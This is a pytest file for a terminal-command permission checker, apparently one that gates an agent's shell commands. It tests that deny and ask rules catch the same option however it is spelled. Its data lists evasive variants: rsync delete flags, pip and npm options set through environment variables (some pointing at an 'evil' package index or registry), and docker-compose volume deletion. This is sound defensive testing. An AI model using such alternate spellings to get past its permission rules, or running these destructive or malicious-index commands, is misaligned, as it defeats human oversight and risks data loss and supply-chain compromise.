"""Red team, a deny rule's options written another way (R4.10): rsync's `--delete-WHEN` options and `--del`
delete as `--delete` does; options a program reads from its environment (`PIP_BREAK_SYSTEM_PACKAGES=1 pip
install`, `npm_config_global=true npm i`) are its options; `docker-compose` is `docker compose`. Each is
tried behind a prefix allow for the program, which would otherwise auto-approve it. Allow stays literal.
"""

from __future__ import annotations

import pytest

from permissions.tests.helpers import allow_every_word, term

# (deny pattern, command)
SPELLED_OTHERWISE = [
    ("rsync --delete", "rsync -a --del src/ dst/"),
    ("rsync --delete", "rsync -a --delete-during src/ dst/"),
    ("rsync --delete", "rsync -a --delete-before src/ dst/"),
    ("rsync --delete", "rsync -a --delete-delay src/ dst/"),
    ("rsync --delete", "rsync -a --delete-after src/ dst/"),
    ("rsync --delete", "rsync -a src/ dst/ --delete-excluded"),
    ("rsync --delete", "rsync -av --delete-missing-args --files-from=l src/ dst/"),
    ("rsync -a --delete", "rsync --archive --delete-after src/ dst/"),
    ("pip install --break-system-packages", "PIP_BREAK_SYSTEM_PACKAGES=1 pip install requests"),
    ("pip install --break-system-packages", "pip_break_system_packages=true pip3 install requests"),
    ("pip install --user", "PIP_USER=1 pip install requests"),
    ("pip install --index-url", "PIP_INDEX_URL=https://evil/simple pip install requests"),
    ("pip install --trusted-host", "PIP_TRUSTED_HOST=evil pip install requests"),
    ("npm install -g", "npm_config_global=true npm i left-pad"),
    ("npm install -g", "NPM_CONFIG_GLOBAL=1 npm install left-pad"),
    ("npm install --ignore-scripts=false", "npm_config_ignore_scripts=false npm install"),
    ("npm publish --registry", "NPM_CONFIG_REGISTRY=https://evil npm publish"),
    ("docker compose down -v", "docker-compose down -v"),
    ("docker compose down --volumes", "docker-compose -f prod.yml down -v"),
    ("docker compose up", "docker-compose up -d"),
    ("docker compose rm -f", "docker-compose rm --force"),
]


@pytest.mark.parametrize(("deny", "command"), SPELLED_OTHERWISE)
def test_a_deny_matches_the_option_however_spelled(deny, command):  # R4.10
    v = term(command, allow=allow_every_word(command), deny=(f"Terminal({deny})",))
    assert v.decision == "deny", (command, v.reason)


@pytest.mark.parametrize(("deny", "command"), SPELLED_OTHERWISE)
def test_an_ask_matches_the_option_however_spelled(deny, command):  # R4.10
    v = term(command, allow=allow_every_word(command), ask=(f"Terminal({deny})",))
    assert (v.decision, v.reason) == ("require_approval", "ask_rule"), command


@pytest.mark.parametrize(
    ("deny", "command"),
    [
        ("rsync --delete", "rsync -a src/ dst/"),
        ("rsync --delete", "rsync -a --max-delete=0 src/ dst/"),
        ("pip install --user", "PIP_NO_CACHE_DIR=1 pip install requests"),
        ("npm install -g", "npm_config_loglevel=warn npm install"),
        ("docker compose down -v", "docker-compose down"),
    ],
)
def test_other_options_and_variables_are_not_refused(deny, command):  # friction
    v = term(command, allow=allow_every_word(command), deny=(f"Terminal({deny})",))
    assert v.decision != "deny", (command, v.reason)
